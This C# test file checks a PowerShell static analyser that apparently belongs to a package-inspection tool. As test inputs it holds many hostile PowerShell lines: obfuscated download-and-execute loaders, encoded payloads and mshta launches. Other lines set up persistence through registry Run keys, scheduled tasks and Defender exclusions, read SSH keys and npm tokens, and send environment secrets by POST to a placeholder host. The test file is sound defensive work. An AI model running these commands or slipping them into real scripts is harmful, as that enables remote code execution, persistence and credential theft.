using System.IO.Compression;
using System.Text;
using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.PowerShell;
using PackageWall.Inspection.Tests.Languages.Shell;

namespace PackageWall.Inspection.Tests.Languages.PowerShell;

public sealed class PowerShellReaderTests
{
    private static readonly string Encoded = Convert.ToBase64String(Encoding.Unicode.GetBytes("iwr https://x.invalid/a | iex"));

    private static FileFacts Read(string text) => new PowerShellReader(CommandFacts.Echo).Read(CommandFacts.Source(text, "x.ps1"));

    public static TheoryData<string> Loaders => new()
    {
        "iex (iwr https://x.invalid/a.ps1 -UseBasicParsing).Content",
        "IE`X ((New-Object Net.WebClient).DownloadString('https://x.invalid/a'))",
        "iwr https://x.invalid/a | Invoke-Expression",
        "$a='Inv'+'oke-Expr'; & ($a+'ession') (irm ('{1}{0}' -f '.invalid/a','https://x'))",
        "$w = New-Object System.Net.WebClient\n$s = $w.DownloadString(\"https://x.invalid/$env:USERNAME\")\n[ScriptBlock]::Create($s).Invoke()",
        "(New-Object Net.WebClient).DownloadFile('https://x.invalid/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\" -WindowStyle Hidden",
        "powershell -NoP -W Hidden -eNc " + Encoded,
        "Start-Process powershell -ArgumentList '-enc','" + Encoded + "'",
        "mshta https://x.invalid/x.hta",
        "iex ([char[]](105,119,114) -join '')\nfunction f { iex (iwr https://x.invalid) }",
        "&('ie'+'x')((('htt'+'psZZ//x.invalid') -replace 'ZZ',':') | % { irm $_ })",
        "Invoke-Command -ScriptBlock { iex (irm https://x.invalid) }",
        "if ($true) { try { \"$(iex (irm https://x.invalid))\" } catch {} }",
    };

    [Theory]
    [MemberData(nameof(Loaders))]
    public void What_is_fetched_flows_into_what_is_run(string text) => Read(text).HasFlow("execute.code", "network.fetch").ShouldBeTrue(string.Join('\n', CommandFacts.Lines(Read(text))));

    [Theory]
    [InlineData("Set-ExecutionPolicy Bypass -Scope Process -Force", "powershell.policy")]
    [InlineData("Add-MpPreference -ExclusionPath C:\\", "persist.policy")]
    [InlineData("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y", "persist.registry")]
    [InlineData("reg add HKCU\\x /v y", "persist.registry")]
    [InlineData("schtasks /create /tn x /tr y", "persist.task")]
    [InlineData("Register-ScheduledTask -TaskName x", "persist.task")]
    [InlineData("certutil -urlcache -f https://x.invalid/a.exe a.exe", "network.fetch")]
    [InlineData("rundll32 a.dll,Start", "execute.native")]
    [InlineData("[Reflection.Assembly]::Load([byte[]](1,2,3))", "execute.assembly")]
    [InlineData("Add-Type -TypeDefinition 'class A { [DllImport(\"kernel32\")] static extern void VirtualAlloc(); }'", "execute.memory")]
    [InlineData("[Environment]::GetEnvironmentVariables()", "read.env.bulk")]
    [InlineData("$env:NPM_TOKEN", "read.env.secret")]
    [InlineData("Start-Process x -WindowStyle Hidden", "execute.detached")]
    [InlineData("Get-Content ~/.ssh/id_rsa", "read.secret.ssh")]
    [InlineData("'x' | Out-File $profile", "persist.shell-profile")]
    [InlineData("New-Object Net.Sockets.TcpClient('192.0.2.1', 99)", "network.socket")]
    [InlineData("start-bitstransfer -source https://x.invalid/a.exe -destination a.exe", "fetch.executable")]
    [InlineData("irm https://x.invalid -Method Post -Body (gc ~/.npmrc)", "network.send")]
    public void Commands_make_facts(string text, string fact) => CommandFacts.Names(Read(text)).ShouldContain(fact);

    [Fact]
    public void Secrets_flow_into_what_is_sent()
    {
        Read("Get-ChildItem env: | ConvertTo-Json | % { Invoke-RestMethod -Uri https://x.invalid -Method Post -Body $_ }").HasFlow("network.send", "read.env.bulk").ShouldBeTrue();
        Read("irm https://x.invalid -Method POST -Body (Get-Content ~/.npmrc)").HasFlow("network.send", "read.secret.registry").ShouldBeTrue();
        Read("$t = $env:NPM_TOKEN; irm \"https://x.invalid/?t=$t\"").HasFlow("network.send", "read.env.secret").ShouldBeTrue();
    }

    [Fact]
    public void Constant_code_is_decoded_and_read_on()
    {
        var code = Convert.ToBase64String(Encoding.UTF8.GetBytes("Set-ExecutionPolicy Bypass"));
        var facts = Read($"$c=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{code}'))\nInvoke-Expression $c");
        facts.HasFlow("execute.code", "decode.constant").ShouldBeTrue();
        facts.Facts.ShouldContain(fact => fact.Name == "powershell.policy" && fact.Depth == 1 && fact.Line == 2);
        facts.Layers.ShouldHaveSingleItem().Text.ShouldBe("Set-ExecutionPolicy Bypass");

        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionMode.Compress))
        {
            gzip.Write("Set-ExecutionPolicy Bypass"u8);
        }

        var text = $"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{Convert.ToBase64String(packed.ToArray())}')); IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
        CommandFacts.Names(Read(text)).ShouldContain("powershell.policy");
        CommandFacts.Lines(Read("-join((72,105)|%{[char]$_}) | iex")).ShouldContain("execute.code=Hi");
    }

    [Fact]
    public void Install_scripts_that_talk_to_the_editor_make_no_facts()
    {
        const string Text = """
            param($installPath, $toolsPath, $package, $project)

            if ($project.Object.SupportsPackageDependencyResolution) { if ($project.Object.SupportsPackageDependencyResolution()) { return } }
            $analyzersPaths = Join-Path (Join-Path (Split-Path -Path $toolsPath -Parent) "analyzers") * -Resolve
            foreach ($analyzersPath in $analyzersPaths)
            {
                if (Test-Path $analyzersPath)
                {
                    foreach ($analyzerFilePath in Get-ChildItem -Path "$analyzersPath\*.dll" -Exclude *.resources.dll)
                    {
                        if ($project.Object.AnalyzerReferences) { $project.Object.AnalyzerReferences.Add($analyzerFilePath.FullName) }
                    }
                }
            }
            $project.Object.References.Add('x') | Out-Null
            $project.ProjectItems.Item("a.txt").Properties.Item("CopyToOutputDirectory").Value = 1
            $DTE.ItemOperations.Navigate('https://x.invalid/readme')
            """;
        Read(Text).Facts.ShouldBeEmpty();
        Read(Text).Unread.ShouldBeEmpty();
    }

    [Fact]
    public void Files_that_are_started_are_references()
    {
        var references = Read("& \"$PSScriptRoot\\tool.exe\" a; . .\\lib.ps1; .\\run.ps1; Import-Module ./m.psm1").References;
        references.Select(reference => $"{reference.Kind} {reference.Target}").ShouldBe(["Spawn .\\tool.exe", "Import .\\lib.ps1", "Spawn .\\run.ps1", "Import ./m.psm1"]);
    }

    [Fact]
    public void Garbage_and_deep_nests_are_read_without_an_exception_in_bounded_time()
    {
        var random = new Random(20260103);
        string[] pieces = ["$(", ")", "(", "{", "}", "[", "]", "@(", "@{", "\"", "'", "@'\n", "\n'@", "`", "$a", "${a}", "=", "+", "-join", "-f", ",", "..", "|", "%", "&", ".", "::", ";", "\n", " ", "iex", "Invoke-Expression", "[char]", "1", "0x41", "function", "if", "<#", "#>", "#", "-enc", "$_", "foreach", "\0", "*", "-bxor"];
        for (var round = 0; round < 1500; round++)
        {
            Read(string.Concat(Enumerable.Range(0, random.Next(1, 60)).Select(_ => pieces[random.Next(pieces.Length)] + (random.Next(2) == 0 ? " " : ""))));
        }

        foreach (var piece in pieces)
        {
            Read(string.Concat(Enumerable.Repeat(piece, 100_000 / piece.Length)) + "\niex a");
        }
    }
}
